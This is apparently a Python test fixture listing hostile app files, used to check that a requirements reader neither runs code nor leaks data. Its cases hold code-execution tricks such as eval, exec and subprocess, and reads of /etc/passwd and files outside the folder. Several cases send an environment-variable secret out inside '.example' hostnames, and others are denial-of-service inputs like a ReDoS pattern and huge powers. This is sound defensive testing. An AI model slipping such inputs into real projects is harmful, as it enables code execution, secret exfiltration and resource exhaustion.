"""Apps that a stranger has written, as data: `CASES`.

An app is a Python file whose list is read and never run. Each case is its text, with what the user's own list may name
according to pip: files and public hosts. `tests.hostile.test_hostile_apps` locks, checks and scans each of them.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

from tests.hostile.trap import Trap

__all__ = ["CASES", "HostileApp"]

Kind = Literal["code", "host", "file", "secret", "text", "size"]


@dataclass(frozen=True, slots=True, kw_only=True)
class HostileApp:
    """One app. `code` are the exit codes that `lock` may give.

    `data` has the bytes of `app.py`; `PUBLIC`, `PRIVATE`, `OUTSIDE` and `BUILT` are filled in. None means that `place`
    puts the file there itself. `reads` is whether the app's own list may lead to files outside, as a list of pip may,
    or links of the folder.
    """

    name: str
    kind: Kind
    data: bytes | None
    code: frozenset[int]
    place: Callable[[Trap], None] | None = None
    reads: bool = False

    def write(self, trap: Trap) -> None:
        """Put the app into the folder."""
        if self.place is not None:
            self.place(trap)
        if self.data is not None:
            data = self.data
            for name, value in (
                (b"PUBLIC", trap.public.base_url),
                (b"PRIVATE", str(trap.private.port)),
                (b"OUTSIDE", trap.outside.as_posix()),
                (b"BUILT", trap.built.as_posix()),
            ):
                data = data.replace(name, value.encode())
            (trap.folder / "app.py").write_bytes(data)


def _app(requirements: str, *, before: str = "", after: str = "") -> bytes:
    """The text of an app with this expression as its list, behind the public index."""
    return f"import os\n{before}\nclass Demo(App):\n    requirements = {requirements}\n{after}\n".encode()


def _listed(*items: str) -> bytes:
    return _app(repr(["--index-url=PUBLIC/simple/", *items]))


def _link(target: str) -> Callable[[Trap], None]:
    def place(trap: Trap) -> None:
        (trap.folder / "app.py").symlink_to(target.replace("OUTSIDE", trap.outside.as_posix()))

    return place


def _pipe(trap: Trap) -> None:
    os.mkfifo(trap.folder / "app.py")


def _included(text: str, *, depth: int = 1) -> Callable[[Trap], None]:
    """Put a list beside the app, `own/list.txt`, which leads to the text over as many files."""

    def place(trap: Trap) -> None:
        folder = trap.folder / "own"
        for number in range(1, depth):
            (folder / ("list.txt" if number == 1 else f"{number}.txt")).write_text(f"-r {number + 1}.txt\n")
        (folder / ("list.txt" if depth == 1 else f"{depth}.txt")).write_text(text)

    return place


def _linked_module(trap: Trap) -> None:
    """A module beside the app that is a link out of the folder."""
    (trap.folder / "helper.py").symlink_to(trap.outside / "secret.txt")


def _case(
    name: str,
    kind: Kind,
    data: bytes | None,
    *codes: int,
    place: Callable[[Trap], None] | None = None,
    reads: bool = False,
) -> HostileApp:
    return HostileApp(name=name, kind=kind, data=data, code=frozenset(codes), place=place, reads=reads)


_RUN = "open('BUILT', 'w').close()"
_SAFE = "['--index-url=PUBLIC/simple/', 'safe']"

CASES: tuple[HostileApp, ...] = (
    _case("statement at the top", "code", _app(_SAFE, before=_RUN), 0),
    _case("statement in the class", "code", _app(_SAFE, after=f"    {_RUN}"), 0),
    _case("default of an argument", "code", _app(_SAFE, before=f"def f(x={_RUN}): pass"), 0),
    _case("decorator", "code", _app(_SAFE, before=f"@(lambda f: {_RUN})\ndef f(): pass"), 0),
    _case("metaclass", "code", _app(_SAFE, before=f"class M(type):\n    def __new__(*a): {_RUN}"), 0),
    _case("import of a module beside it", "code", _app(_SAFE, before="import own.setup"), 0, 2),
    _case("call in the list", "code", _app(f"['safe', str({_RUN})]"), 2),
    _case("eval in the list", "code", _app(f"eval({_RUN!r})"), 2),
    _case("exec in a comprehension", "code", _app(f"[exec({_RUN!r}) for _ in range(1)]"), 2),
    _case("subprocess in the list", "code", _app("[__import__('subprocess').getoutput('touch BUILT')]"), 2),
    _case("f-string with a call", "code", _app(f"[f'safe{{{_RUN}}}']".replace("'BUILT', 'w'", '"BUILT", "w"')), 2),
    _case("format that reaches globals", "code", _app("['{0.__class__.__mro__}'.format('')]"), 2),
    _case(
        "property of a class",
        "code",
        _app("Made().value", before=f"class Made:\n  @property\n  def value(self): {_RUN}"),
        2,
    ),
    _case("write through open", "code", _app("[open('BUILT', 'w').write('x')]"), 2),
    _case("included file of the system", "file", _listed("-r /etc/passwd"), 2, reads=True),
    _case("included file upwards", "file", _listed("-r ../outside/secret.txt"), 2, 3, reads=True),
    _case("constraints upwards", "file", _listed("safe", "-c OUTSIDE/secret.txt"), 0, 2, 3, reads=True),
    _case("open of a file outside", "file", _app("[open('OUTSIDE/secret.txt').read()]"), 2),
    _case("open of a path upwards", "file", _app("open('../outside/secret.txt').read().splitlines()"), 2),
    _case(
        "pathlib upwards",
        "file",
        _app(
            "(Path(__file__).parent.parent / 'outside' / 'secret.txt').read_text().split()",
            before="from pathlib import Path",
        ),
        2,
    ),
    _case(
        "module that is a link",
        "file",
        _app("helper.items", before="import helper"),
        2,
        place=_linked_module,
        reads=True,
    ),
    _case("app that is a link to a device", "size", None, 2, place=_link("/dev/zero")),
    _case("app that is a link to itself", "size", None, 2, place=_link("app.py")),
    _case("app that is a pipe", "size", None, 2, place=_pipe),
    _case("variable as an item", "secret", _app("[os.environ['CANARY']]"), 2, 3, 4),
    _case(
        "variable in a name",
        "secret",
        _app("['--index-url=PUBLIC/simple/', 'safe-' + os.environ['CANARY'].replace('-', '')]"),
        2,
        3,
        4,
    ),
    _case(
        "variable in the host of an index",
        "secret",
        _app("[f\"--index-url=http://{os.environ['CANARY']}.example/simple/\", 'safe']"),
        2,
    ),
    _case(
        "variable in the host of a find-links page",
        "secret",
        _app("['--index-url=PUBLIC/simple/', f\"--find-links=http://{os.environ['CANARY']}.example/\", 'safe']"),
        2,
    ),
    _case(
        "variable in the host of a file",
        "secret",
        _app("['--index-url=PUBLIC/simple/', 'safe @ http://' + os.environ['CANARY'] + '.example/safe-1.0.tar.gz']"),
        2,
    ),
    _case("variable in the host of a repository", "secret", _listed("git+https://${CANARY}.example/safe#egg=safe"), 2),
    _case(
        "variable in the path of the allowed index",
        "secret",
        _app("[f\"--index-url=PUBLIC/{os.environ['CANARY']}/simple/\", 'safe']"),
        2,
    ),
    _case(
        "variable in the host of an index of an included list",
        "secret",
        _listed("-r own/list.txt"),
        2,
        place=_included("--index-url http://${CANARY}.example/simple/\nsafe\n"),
    ),
    _case(
        "variable in the host of a find-links page of a list two files down",
        "secret",
        _listed("-r own/list.txt"),
        2,
        place=_included("--find-links http://x.${CANARY}.example/\nsafe\n", depth=2),
    ),
    _case("variable that includes a file", "secret", _app("['-r ' + os.environ['CANARY'] + '.txt']"), 2),
    _case("null bytes", "text", _app(_SAFE) + b"\0\0", 2),
    _case("unknown encoding", "text", b"# -*- coding: idna -*-\n" + _app(_SAFE), 0, 2),
    _case("encoding that hides code", "text", b"# -*- coding: unicode_escape -*-\n" + _app(_SAFE), 0, 2),
    _case("utf-7", "text", b"# -*- coding: utf-7 -*-\n" + _app(_SAFE), 0, 2),
    _case("invalid UTF-8", "text", _app("['saf\\udce9']").replace(b"\\udce9", b"\xe9\xff"), 2),
    _case("escapes in an item", "text", _app("['\\x1b[2J\\u202esafe\\x07', '::error::x']"), 2),
    _case("escapes in a name", "text", _app("[ｓａｆｅ]"), 2),
    _case("deep brackets", "size", _app("[" * 5000 + "]" * 5000), 2),
    _case("deep sum", "size", _app("['safe']" + " + ['safe']" * 20_000), 0, 2),
    _case("deep attribute", "size", _app("a" + ".b" * 20_000), 2),
    _case("deep negation", "size", _app("not " * 20_000 + "1"), 2),
    _case("power", "size", _app("['a' * 10 ** 10 ** 10]"), 2),
    _case("long product", "size", _app("['safe' * 999999999]"), 2),
    _case("doubling", "size", _app("x", before="x = ['safe']\n" + "x = x + x\n" * 40), 2),
    _case("endless loop", "size", _app("x", before="x = []\nwhile True:\n    x.append('safe')"), 2),
    _case("endless recursion", "size", _app("f()", before="def f(): return f()"), 2),
    _case("large range", "size", _app("['safe' for _ in range(10 ** 12)]"), 2),
    _case("width of a format", "size", _app("[f'{1:99999999999}']"), 2),
    _case("large integer as text", "size", _app("[str(9 ** 9 ** 6)]"), 2),
    _case("pattern that takes long", "size", _app("[re.sub('(a+)+$', '', 'a' * 40 + 'b')]", before="import re"), 2),
)
